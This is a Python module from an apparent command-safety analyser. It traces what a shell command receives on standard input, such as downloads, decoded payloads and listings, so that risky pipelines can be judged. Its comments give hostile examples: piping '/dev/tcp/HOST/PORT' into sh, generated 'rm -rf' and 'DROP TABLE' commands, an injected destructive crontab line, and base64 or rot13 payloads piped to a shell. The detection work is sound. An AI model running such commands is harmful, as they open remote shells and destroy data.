"""What flows into a command's standard input: known text (``echo``, heredocs, here-strings),
downloaded code (``curl``, ``wget -O-``), decoded payloads (``base64 -d``, ``xxd -r -p``) or a
listing (``find``, ``docker ps -q``) — so ``… | sh``, ``… | psql`` and ``… | xargs rm`` can be
judged by what they are fed.
"""

from __future__ import annotations

import base64
import binascii
import codecs
import itertools
import re
from dataclasses import dataclass, replace

from sentinel.live.commands import option_value, parse, program_name, unwrap
from sentinel.live.lexer import Command, decode_ansi_c, lex
from sentinel.live.rules import limit, members, pattern, rules
from sentinel.live.transform import command_prefix, transformed

MAX_CHAIN = 8  # producers followed back through a pipeline


@dataclass(frozen=True, slots=True)
class Feed:
    """One input: ``kind`` is text, remote, encoded (decoded to nothing readable), listing, file or
    unknown (a producer beyond the bounds the analyser follows)."""

    kind: str
    text: str = ""
    source: str = ""
    roots: tuple[str, ...] = ()
    decoded: bool = False


def decode(program: str, flags: set[str], text: str) -> str | None:
    """A payload decoded as ``program`` would (``base64``, ``base32``, ``xxd -p``, ``rev``), or None
    when that is not readable text."""
    payload = text.strip()[: 4 * limit("max_decoded_chars")]
    try:
        if program == "base64":
            raw = base64.b64decode(payload + "=" * (-len(payload) % 4))
        elif program == "base32":
            raw = base64.b32decode(payload.upper() + "=" * (-len(payload) % 8))
        elif program == "xxd" and "-p" in flags:
            raw = binascii.unhexlify("".join(payload.split()))
        elif program == "rev":
            return payload[::-1]
        else:
            return None
        return raw.decode("utf-8")[: limit("max_decoded_chars")]
    except (ValueError, binascii.Error, UnicodeDecodeError):
        return None


def decode_kind(kind: str, literal: str) -> str | None:
    """A literal decoded by a decoder of one kind: ``base64``, ``hex``, ``codes`` (character codes,
    ``[114, 109]``) or ``rot13``; None when that is not text."""
    if kind == "codes":
        try:
            return "".join(chr(int(x)) for x in re.findall(r"\d+", literal))
        except ValueError:
            return None
    if kind == "rot13":
        return codecs.decode(literal, "rot13")
    return decode("xxd" if kind == "hex" else "base64", {"-p"} if kind == "hex" else set(), "".join(literal.split()))


def _echoed(words: list[str]) -> str:
    """What ``echo``/``printf`` print (options dropped, ``printf``'s format applied loosely)."""
    args = [w for w in words[1:] if not (w.startswith("-") and len(w) <= 3)]
    if program_name(words[0]) == "printf" and len(args) > 1 and "%" in args[0]:
        args = args[1:]
    text = " ".join(args)
    escapes = program_name(words[0]) == "printf" or "-e" in words[1:3]
    return decode_ansi_c(text) if escapes and "\\" in text else text.replace("\\n", "\n")


def stdin_of(cmd: Command, depth: int = 0) -> Feed | None:
    """What a command reads: its heredoc or here-string, a ``<`` file, or its pipe's producer."""
    for op, target in cmd.redirects:
        if op in ("<<", "<<<"):
            return Feed("text", target, source=op)
        if op == "<" and target.startswith(("/dev/tcp/", "/dev/udp/")):  # cat < /dev/tcp/HOST/PORT | sh
            return Feed("remote", source=target)
        if op == "<" and target.startswith("<(") and target.endswith(")") and depth < MAX_CHAIN:
            return output_of_script(target[2:-1])  # mysql db < <(echo "UPDATE …"): what it prints
        if op == "<":
            return Feed("file", source=target)
        if op == "<&":  # cat <&3: a descriptor opened elsewhere (exec 3<>/dev/tcp/…), not followed
            return Feed("unknown", source=f"file descriptor {target}")
    if cmd.stdin is not None:
        if depth >= MAX_CHAIN:  # fail closed: a producer the analyser did not follow
            return Feed("unknown", source="a pipeline longer than the analyser follows")
        return output_of(cmd.stdin, depth + 1)
    return None


SELECT_LIST = re.compile(r"(?is)^\s*select\s+(.{1,2000}?)\s+from\s")
SQL_LITERAL = re.compile(r"'((?:[^']|''){0,400})'")


def _generated_sql(query: str) -> str:
    """The statements a query prints when its select list builds them from literals (``SELECT
    CONCAT('DROP TABLE ', table_name, ';') FROM …`` prints ``DROP TABLE each_value ;`` per table),
    or nothing when the select list holds no literal."""
    m = SELECT_LIST.match(query)
    literals = SQL_LITERAL.findall(m.group(1)) if m else []
    return " each_value ".join(x.replace("''", "'") for x in literals[:16]) if literals else ""


def output_of(cmd: Command, depth: int = 0) -> Feed:
    """What a command writes to its standard output, as far as the analyser can tell."""
    if cmd.group:
        if depth >= MAX_CHAIN:  # fail closed: groups nested deeper than the analyser follows
            return Feed("unknown", source="groups nested deeper than the analyser follows")
        return _group_output(cmd.group, depth)
    words, _ = unwrap(cmd.words)
    if not words:
        return Feed("listing")
    p = parse(words)
    data = rules()["interpreters"]
    evidence = " ".join(words)[:200]
    if p.program in ("echo", "printf"):
        return Feed("text", _echoed(words), source=evidence)
    if p.program in data["stdin"]["fetchers"]:
        if _writes_to_file(p.program, words):
            return Feed("file", source=evidence)
        return Feed("remote", source=evidence)
    inner = stdin_of(cmd, depth)
    decode_flags = data["decoders"].get(p.program)
    if decode_flags is not None and (not decode_flags or p.flags & set(decode_flags)):
        return _decoded(p.program, p.flags, inner, evidence)
    if p.program in data["transformers"] and inner is not None and inner.kind == "listing":
        prefix = command_prefix(p.program, words[1:])  # ls /srv | sed 's/^/rm -rf /': a command per item
        if prefix is not None:
            items = " ".join(inner.roots) if inner.roots else f"$({inner.source})"
            return Feed("text", prefix + items, evidence)
    if p.program in data["transformers"] and inner is not None and inner.kind == "text":
        changed = transformed(p.program, words[1:], inner.text)  # echo 'ez -es /' | tr a-z n-za-m
        if changed is not None and changed != inner.text:
            return Feed("text", changed[: limit("max_decoded_chars")], evidence, decoded=True)
    if p.program in data["stdin"]["passthrough"] and inner is not None and inner.kind == "listing":
        return Feed("listing", source=f"{inner.source} | {evidence}"[:400], roots=inner.roots)  # ps aux | grep java
    if p.program in data["stdin"]["passthrough"] and inner is not None:
        return inner
    if p.program in members("interpreters", "python") or p.program in data["script"]:
        from sentinel.live.printed import printed  # printed.py reads Feed and decode from here

        out = printed(words, evidence)
        if out is not None:  # python3 -c '…b64decode("…")…' | sh: what the code prints
            return out
    query_options = rules()["sql_clients"]["options"].get(p.program)  # a SQL client's query, if any
    if query_options and (query := option_value(words, set(query_options))):
        generated = _generated_sql(query)  # mysql -Nse "SELECT CONCAT('DROP TABLE ', t, ';') …" | mysql
        if generated:
            return Feed("text", generated, evidence)
    if p.program == "find":
        roots = tuple(w for w in _find_roots(words[1:]))
        return Feed("listing", source=evidence, roots=roots)
    if p.positional[:1] and p.positional[0] in data["objects"]["working_copy_listers"].get(p.program, ()):
        return Feed("listing", source=evidence, roots=(".",))  # git ls-files --others '*.orig' | xargs rm
    if p.program in data["objects"]["listers"]:  # Get-ChildItem C:\Data -Recurse: what is inside
        return Feed("listing", source=evidence, roots=tuple(w for w in p.positional if "/" in w or ":" in w)[:8])
    if p.program in data["objects"]["named_listers"]:  # Get-Service *sql*: the services named
        low = [w.lower().strip("'\"") for w in words]
        if any(w == "-filter" and nxt == "*" for w, nxt in itertools.pairwise(low)):  # Get-ADUser -Filter *: all
            return Feed("listing", source=evidence)
        return Feed("listing", source=evidence, roots=tuple(p.positional[:8]))
    if p.program in data["objects"]["filters"] and inner is not None and inner.roots:  # | Where-Object …
        return Feed("listing", source=evidence, roots=tuple(f"{r.rstrip('/')}/…" for r in inner.roots))
    if p.program in data["objects"]["filters"] and inner is not None and inner.kind == "listing":
        names = pattern(data["objects"]["name_filter"]).findall(" ".join(words))  # { $_.Name -like '*sql*' }
        return Feed("listing", source=evidence, roots=tuple(n.lower() for n in names[:8]))
    return Feed("listing", source=evidence)


def _group_output(group: tuple[Command, ...], depth: int) -> Feed:
    """What a group writes (``{ echo -n 'DROP '; echo 'DATABASE x;'; } | psql``): its commands'
    outputs one after the other — known text when each is (``echo`` ends its line unless ``-n``);
    downloaded, encoded or unknown code when any is; otherwise a listing."""
    consumed = {id(fed) for c in group for fed in _fed_by(c)}
    writers = [c for c in group if id(c) not in consumed]  # `{ a | b; c; }`: b and c write, a feeds b
    feeds = [output_of(replace(c, group=()), depth + 1) for c in writers]
    hidden = next((f for f in feeds if f.kind in ("remote", "encoded", "unknown")), None)
    if hidden is not None:
        return hidden
    if all(f.kind != "text" for f in feeds):
        return Feed("listing", source=" ; ".join(f.source for f in feeds)[:400])
    # (crontab -l; echo '*/5 * * * * rm -rf /home/*') | crontab -: the known lines, a listing's left out
    text = "".join(f.text + _line_end(c.words) for f, c in zip(feeds, writers, strict=True) if f.kind == "text")
    return Feed("text", text[: limit("max_decoded_chars")], source=" ; ".join(f.source for f in feeds)[:400])


def _fed_by(cmd: Command) -> tuple[Command, ...]:
    """The commands whose output a command reads through its pipe (a group's, when it is one)."""
    if cmd.stdin is None:
        return ()
    return cmd.stdin.group or (cmd.stdin,)


def _line_end(words: list[str]) -> str:
    """What ends a writer's text: nothing after ``printf`` or ``echo -n``, a line break otherwise."""
    plain, _ = unwrap(words)
    program = program_name(plain[0]) if plain else ""
    if program == "printf" or (program == "echo" and any(w.startswith("-") and "n" in w for w in plain[1:3])):
        return ""
    return "\n"


def _decoded(program: str, flags: set[str], inner: Feed | None, evidence: str) -> Feed:
    """What a decoder prints: the payload it decodes when that is known text; downloaded code
    stays downloaded code; otherwise (a file, ``< FILE``, a listing, undecodable bytes) an encoded
    payload nobody can read here — except that a decompressor of a file (``gunzip -c dump.gz``)
    only unpacks it."""
    if inner is not None and inner.kind in ("remote", "encoded", "unknown"):
        return inner
    if inner is not None and inner.kind == "text":
        decoded = decode(program, flags, inner.text)
        return Feed("encoded", source=evidence) if decoded is None else Feed("text", decoded, evidence, decoded=True)
    if program in rules()["interpreters"]["decompressors"]:
        return Feed("file", source=evidence)
    return Feed("encoded", source=evidence)


def _writes_to_file(program: str, words: list[str]) -> bool:
    """``curl -o x`` and ``wget -O x`` save the download instead of printing it."""
    for i, w in enumerate(words):
        if program == "curl" and (w in ("-o", "--output", "-O", "--remote-name") or w.startswith("--output=")):
            return True
        if program == "curl" and w[:1] == "-" and w[1:2] != "-" and w[-1:] in ("o", "O"):  # -fsSLo FILE
            return True
        if program == "wget" and w in ("-O", "--output-document") and words[i + 1 : i + 2] != ["-"]:
            return True
    return False


def _find_roots(args: list[str]) -> list[str]:
    """The starting points of ``find`` (the words before its first expression)."""
    roots = []
    for w in args:
        if w.startswith(("-", "(", "!")):
            break
        roots.append(w)
    return roots or ["."]


def output_of_script(script: str) -> Feed:
    """What a substitution's script writes: the output of its last command."""
    commands = lex(script[: limit("max_snippet_chars")])
    return output_of(commands[-1]) if commands else Feed("listing")
